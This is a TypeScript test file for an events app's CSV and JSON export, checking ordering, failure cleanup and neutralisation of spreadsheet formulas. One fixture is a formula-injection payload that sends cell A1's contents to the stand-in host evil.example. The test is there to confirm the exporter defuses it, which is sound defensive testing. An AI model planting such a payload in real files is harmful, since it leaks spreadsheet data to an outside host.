import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { Database } from 'better-sqlite3';
import type { EventFilter, EventSort } from '../contract/query.ts';
import { queryEvents } from './event-queries.ts';
import { entry } from './exchange/test-support.ts';
import { readEventsCsv } from './exchange/read-csv.ts';
import { commitImport, type ImportEntry } from './import/commit.ts';
import { openStore } from './open-store.ts';
import { tempDir } from './test/helpers.ts';
import { exportView } from './export-view.ts';

const US_JP = [{ code: 'US', via: 'name' }, { code: 'JP', via: 'name' }];
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

/**
 * 300 US–Japan events (more than the table's largest page of 200), some without a place, one
 * whose summary is a spreadsheet formula; and events the view leaves out: US–China, and
 * US–Japan before 2022.
 */
async function store(): Promise<Database> {
  const { db } = await openStore(path.join(tempDir('export-view'), 'store.sqlite'));
  const places = ['Tokyo', 'Washington', 'osaka', null, 'Honolulu'];
  const entries: ImportEntry[] = Array.from({ length: 300 }, (_, i) =>
    entry({
      dateStart: `2022-${String(1 + (i % 12)).padStart(2, '0')}-${String(1 + (i % 28)).padStart(2, '0')}`,
      summary: i === 150 ? FORMULA : `Working-level talks, round ${i + 1}.`,
      location: places[i % places.length],
      countries: US_JP,
    }),
  );
  entries.push(
    entry({ dateStart: '2022-05-05', summary: 'US and China talk trade.', countries: [{ code: 'US', via: 'name' }, { code: 'CN', via: 'name' }] }),
    entry({ dateStart: '2021-12-31', summary: 'Year-end call.', countries: US_JP }),
  );
  commitImport(db, { title: 'US-Japan file', fileCountries: ['US', 'JP'], contentHash: 'export' }, entries);
  return db;
}

const filter: EventFilter = { pairing: { kind: 'countries', mode: 'bilateral', countries: ['JP', 'US'], fileOnly: false }, dateFrom: '2022-01-01' };
const sort: EventSort = { column: 'location', direction: 'asc' };

/** The view as the table pages through it. */
function viewIds(db: Database): number[] {
  return [0, 200, 400].flatMap((offset) => queryEvents(db, { filter, sort, offset, limit: 200 }).rows.map((r) => r.id));
}

test('CSV export holds every event of the view, in its order, with formulas neutralised', async () => {
  const db = await store();
  const expected = viewIds(db);
  assert.equal(expected.length, 300);
  const file = path.join(tempDir('export-csv'), 'view.csv');
  const result = exportView(db, { filter, sort, format: 'csv', file });
  assert.deepEqual(result, { file, events: 300, bytes: fs.statSync(file).size });

  const text = fs.readFileSync(file, 'utf8');
  const records = parse(text, { bom: true, columns: true }) as Array<Record<string, string>>;
  assert.deepEqual(records.map((r) => Number(r.id)), expected);
  // Places ascending ignoring case; the events without one last.
  assert.deepEqual([...new Set(records.map((r) => r.location))], ['Honolulu', 'osaka', 'Tokyo', 'Washington', '']);
  const formula = records.find((r) => r.summary?.includes('HYPERLINK'));
  assert.equal(formula?.summary, `'${FORMULA}`);
  assert.ok(!records.some((r) => r.summary?.startsWith('=')));
  // Reading the file back as the app imports it restores the text exactly.
  const read = readEventsCsv(text);
  assert.deepEqual(read.problems, []);
  assert.equal(read.entries.length, 300);
  assert.ok(read.entries.some((e) => e.summary === FORMULA));
  db.close();
});

test('JSON export holds every event of the view, in its order, text unchanged', async () => {
  const db = await store();
  const expected = viewIds(db);
  const file = path.join(tempDir('export-json'), 'view.json');
  assert.equal(exportView(db, { filter, sort, format: 'json', file }).events, 300);
  const doc = JSON.parse(fs.readFileSync(file, 'utf8')) as { format: string; version: number; events: Array<{ id: number; summary: string; countries: string[] }> };
  assert.deepEqual([doc.format, doc.version], ['briefing-book/events', 1]);
  assert.deepEqual(doc.events.map((e) => e.id), expected);
  assert.ok(doc.events.every((e) => e.countries.join() === 'JP,US'));
  assert.equal(doc.events.filter((e) => e.summary === FORMULA).length, 1);
  db.close();
});

test('a search view exports the same events the table shows', async () => {
  const db = await store();
  const searchFilter: EventFilter = { ...filter, search: 'working-level' };
  const dateAsc: EventSort = { column: 'date', direction: 'asc' };
  const shown = queryEvents(db, { filter: searchFilter, sort: dateAsc, limit: 1000 }).rows.map((r) => r.id);
  const file = path.join(tempDir('export-search'), 'view.json');
  exportView(db, { filter: searchFilter, sort: dateAsc, format: 'json', file });
  const doc = JSON.parse(fs.readFileSync(file, 'utf8')) as { events: Array<{ id: number }> };
  assert.deepEqual(doc.events.map((e) => e.id), shown);
  // Every round but the one whose summary is a formula.
  assert.equal(shown.length, 299);
  db.close();
});

test('an export needs a full path to a folder that exists, and leaves nothing behind when it fails', async () => {
  const db = await store();
  assert.throws(() => exportView(db, { filter, sort, format: 'csv', file: 'view.csv' }), {
    name: 'StoreError',
    code: 'INVALID_INPUT',
    message: 'An export needs a full path to write to.',
  });
  assert.equal(fs.existsSync(path.resolve('view.csv')), false);

  const dir = tempDir('export-fail');
  const missing = path.join(dir, 'no-such-folder', 'view.csv');
  for (const format of ['csv', 'json'] as const) {
    assert.throws(() => exportView(db, { filter, sort, format, file: missing }), {
      name: 'StoreError',
      code: 'INVALID_INPUT',
      message: `Could not write ${missing} (ENOENT); nothing was written there. Choose another folder.`,
    });
  }
  assert.deepEqual(fs.readdirSync(dir), []);

  // The chosen name is taken by a folder: the file is written beside it, then cannot be renamed.
  const taken = path.join(dir, 'taken.csv');
  fs.mkdirSync(taken);
  assert.throws(() => exportView(db, { filter, sort, format: 'csv', file: taken }), { name: 'StoreError', code: 'INVALID_INPUT' });
  // Nothing half-done is left beside it.
  assert.deepEqual(fs.readdirSync(dir), ['taken.csv']);
  db.close();
});
